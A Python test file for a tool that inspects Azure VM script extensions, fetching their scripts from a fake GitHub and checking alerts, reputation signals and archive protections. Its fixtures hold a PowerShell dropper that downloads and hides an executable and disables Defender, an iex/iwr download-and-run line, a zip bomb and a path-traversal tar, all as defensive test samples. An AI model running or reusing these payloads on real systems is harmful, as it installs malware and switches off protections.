"""Through the whole pipeline: a Custom Script Extension whose fileUris point at a fake GitHub.

raw.githubusercontent.com and api.github.com are mapped to local servers in closed-network
mode; the verdict must carry the fetch records, the fetched artifacts, their unpacked members,
the repository reputation, and say when something could not be fetched.
"""

from __future__ import annotations

import asyncio
import io
import tarfile
from collections.abc import AsyncIterator
import pytest
from aiohttp import web

from inspector.extensions.request import InputKind, InspectionInput
from inspector.pipeline import Inspector
from tests.fetch.support import (
    REALISTIC_NAMES,
    FakeGitHub,
    closed_settings,
    github_repo_json,
    github_user_json,
    start_app,
    zip_bytes,
)

DROPPER = (b"$wc = New-Object System.Net.WebClient\r\n"
           b"$wc.DownloadFile('http://203.0.113.50:8080/svc.exe', \"$env:TEMP\\svc.exe\")\r\n"
           b"Start-Process \"$env:TEMP\\svc.exe\" -WindowStyle Hidden\r\n"
           b"Set-MpPreference -DisableRealtimeMonitoring $true\r\n")
HARMLESS = b"Install-WindowsFeature -Name Web-Server -IncludeManagementTools\r\n"


def _traversal_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/cron.d/miner")
        info.size = len(HARMLESS)
        archive.addfile(info, io.BytesIO(HARMLESS))
    return buf.getvalue()


@pytest.fixture
async def raw_github() -> AsyncIterator[int]:
    """raw.githubusercontent.com: a dropper in a new repository, a template in an old one, a DSC zip."""
    files = {
        "/mallory/payloads/main/install.ps1": DROPPER,
        "/contoso/templates/master/iis.ps1": HARMLESS,
        # A second stage: the URL is completed with the server's port when served.
        "/contoso/templates/master/bootstrap.ps1": b"iex (iwr 'http://raw.githubusercontent.com:{port}"
                                                   b"/mallory/payloads/main/install.ps1' -UseBasicParsing).Content\r\n",
        "/contoso/templates/master/dsc/cfg.ps1.zip": zip_bytes({"cfg.ps1": HARMLESS, "mod/evil.ps1": DROPPER}),
        "/mallory/payloads/main/bomb.zip": zip_bytes({"bomb.bin": b"\0" * (32 * 1024 * 1024)}),
        "/mallory/payloads/main/slip.tar": _traversal_tar(),
    }

    async def serve(request: web.Request) -> web.StreamResponse:
        body = files.get(request.path)
        if body is None:
            return web.Response(status=404)
        return web.Response(body=body.replace(b"{port}", str(request.url.port).encode()))

    async def drip(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        await response.prepare(request)
        for _ in range(3000):  # a byte every 0.2 s for ten minutes: never a read timeout, always the total one
            await response.write(b"#")
            await asyncio.sleep(0.2)
        return response

    app = web.Application()
    app.router.add_get("/slow/drip.ps1", drip)
    app.router.add_get("/{tail:.*}", serve)
    runner, port = await start_app(app)
    yield port
    await runner.cleanup()


@pytest.fixture
async def inspector(fake_github: FakeGitHub) -> AsyncIterator[Inspector]:
    fake_github.repos["mallory/payloads"] = github_repo_json("mallory", "payloads", age_days=2)
    fake_github.users["mallory"] = github_user_json("mallory", age_days=5, public_repos=1)
    fake_github.repos["contoso/templates"] = github_repo_json("contoso", "templates", age_days=2500, stars=900, forks=300)
    fake_github.users["contoso"] = github_user_json("contoso", age_days=4000, public_repos=120)
    settings = closed_settings(github_api_url=fake_github.api_url,
                               fetch_hosts={name: "127.0.0.1" for name in REALISTIC_NAMES})
    inspector = await Inspector.start(settings, workers=0, fetching=True)
    yield inspector
    await inspector.close()


def cse(*file_uris: str, command: str = "powershell -ExecutionPolicy Unrestricted -File install.ps1") -> InspectionInput:
    return InspectionInput(kind=InputKind.EXTENSION, body={"properties": {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
        "settings": {"fileUris": list(file_uris)}, "protectedSettings": {"commandToExecute": command}}})


async def test_an_entry_point_in_a_days_old_repository_is_fetched_judged_and_alerted(
    inspector: Inspector, raw_github: int
) -> None:
    url = f"http://raw.githubusercontent.com:{raw_github}/mallory/payloads/main/install.ps1"
    verdict = (await inspector.inspect(cse(url))).verdict
    [record] = [f for f in verdict.fetches if f.url == url]
    assert record.fetched and record.status == 200 and record.bytes == len(DROPPER)
    fetched = [a for a in verdict.artifacts if a.fetch is not None and a.fetch.sha256 == record.sha256]
    assert fetched and fetched[0].origin == "settings.fileUris[0]" and fetched[0].url == url
    reputation = {f.id for f in verdict.findings if f.source == "reputation"}
    assert {"reputation.github.new_repo", "reputation.github.new_owner"} <= reputation
    assert "VM_CustomScriptExtensionSuspiciousEntryPoint" in {a.alertType for a in verdict.alerts}
    assert verdict.verdict != "clean"


async def test_a_long_standing_template_repository_is_not_an_indicator(
    inspector: Inspector, raw_github: int
) -> None:
    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/iis.ps1"
    verdict = (await inspector.inspect(cse(url, command="powershell -File iis.ps1"))).verdict
    assert [f.fetched for f in verdict.fetches] == [True]
    # (the test server's port is the only URL signal: real raw.githubusercontent.com uses 443)
    assert {f.id for f in verdict.findings if f.source == "reputation"} == {"reputation.url.unusual_port"}
    assert not {a.alertType for a in verdict.alerts} & {"VM_CustomScriptExtensionSuspiciousEntryPoint",
                                                         "VM_CustomScriptExtensionSuspiciousPayload"}


async def test_a_fetched_zip_is_unpacked_into_member_artifacts(inspector: Inspector, raw_github: int) -> None:
    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/dsc/cfg.ps1.zip"
    verdict = (await inspector.inspect(cse(url, command="powershell -File cfg.ps1"))).verdict
    origins = {a.origin for a in verdict.artifacts}
    assert {"zip:cfg.ps1", "zip:mod/evil.ps1"} <= origins


async def test_a_payload_that_cannot_be_fetched_makes_the_verdict_incomplete(
    inspector: Inspector, raw_github: int
) -> None:
    missing = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/gone.ps1"
    blocked = "http://169.254.169.254/metadata/identity/oauth2/token"
    verdict = (await inspector.inspect(cse(missing, blocked))).verdict
    errors = {f.url: f.error for f in verdict.fetches}
    assert errors[missing] == "http_error" and errors[blocked] == "blocked_address"
    assert verdict.complete is False
    assert {e.kind for e in verdict.errors} >= {"fetch_failed"}


async def test_offline_signals_reach_the_verdict_without_fetching(fake_github: FakeGitHub, raw_github: int) -> None:
    settings = closed_settings(fetch=False, github_api_url=fake_github.api_url)
    inspector = await Inspector.start(settings, workers=0, fetching=False)
    try:
        verdict = (await inspector.inspect(cse("https://abcd-1-2.ngrok-free.app/install.ps1"))).verdict
    finally:
        await inspector.close()
    assert "reputation.url.tunnel" in {f.id for f in verdict.findings}
    assert verdict.complete is False and fake_github.hits == []




async def test_urls_found_in_a_fetched_script_are_fetched_as_a_second_stage(
    inspector: Inspector, raw_github: int
) -> None:
    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/bootstrap.ps1"
    verdict = (await inspector.inspect(cse(url, command="powershell -File bootstrap.ps1"))).verdict
    by_url = {f.url: f for f in verdict.fetches}
    stage2 = f"http://raw.githubusercontent.com:{raw_github}/mallory/payloads/main/install.ps1"
    assert by_url[url].depth == 0 and by_url[url].fetched
    assert stage2 in by_url and by_url[stage2].depth == 1 and by_url[stage2].role == "referenced"
    assert by_url[stage2].fetched and by_url[stage2].bytes == len(DROPPER)


async def test_a_dsc_package_from_github_is_fetched_unpacked_and_judged(inspector: Inspector, raw_github: int) -> None:
    url = f"http://raw.githubusercontent.com:{raw_github}/contoso/templates/master/dsc/cfg.ps1.zip"
    body = {"properties": {"publisher": "Microsoft.Powershell", "type": "DSC", "typeHandlerVersion": "2.77",
                           "settings": {"configuration": {"url": url, "script": "cfg.ps1", "function": "Cfg"}}}}
    verdict = (await inspector.inspect(InspectionInput(kind=InputKind.EXTENSION, body=body))).verdict
    package, stage2 = verdict.fetches
    assert package.url == url and package.fetched and package.role == "configuration"
    assert {"zip:cfg.ps1", "zip:mod/evil.ps1"} <= {a.origin for a in verdict.artifacts}
    # The dropper inside names a public address: closed-network mode refuses it, no packet leaves.
    assert (stage2.url, stage2.error, stage2.depth) == ("http://203.0.113.50:8080/svc.exe", "blocked_address", 1)
    assert "VM_DSCExtensionSuspiciousScript" in {a.alertType for a in verdict.alerts}


async def test_a_bomb_a_zip_slip_and_a_drip_feed_are_cut_off_with_reasons_in_the_verdict(
    fake_github: FakeGitHub, raw_github: int
) -> None:
    # 5 s per URL: ample for the bomb and the tar on a loaded machine, and it ends the drip feed.
    settings = closed_settings(github_api_url=fake_github.api_url, fetch_total_timeout_s=5.0, fetch_retries=0)
    inspector = await Inspector.start(settings, workers=0, fetching=True)
    base = f"http://raw.githubusercontent.com:{raw_github}"
    try:
        verdict = (await inspector.inspect(cse(f"{base}/mallory/payloads/main/bomb.zip",
                                               f"{base}/mallory/payloads/main/slip.tar", f"{base}/slow/drip.ps1"))).verdict
    finally:
        await inspector.close()
    errors = {e.kind: e.detail for e in verdict.errors}
    assert "archive_bomb" in errors and "unpack_max_ratio" in errors["archive_bomb"]
    assert "archive_path_traversal" in errors and "../../etc/cron.d/miner" in errors["archive_path_traversal"]
    drip = next(f for f in verdict.fetches if f.url.endswith("/slow/drip.ps1"))
    assert drip.error == "timeout" and "total timeout" in (drip.error_detail or "")
    assert {"structure.archive.bomb", "structure.archive.path_traversal"} <= {f.id for f in verdict.findings}
    assert verdict.complete is False
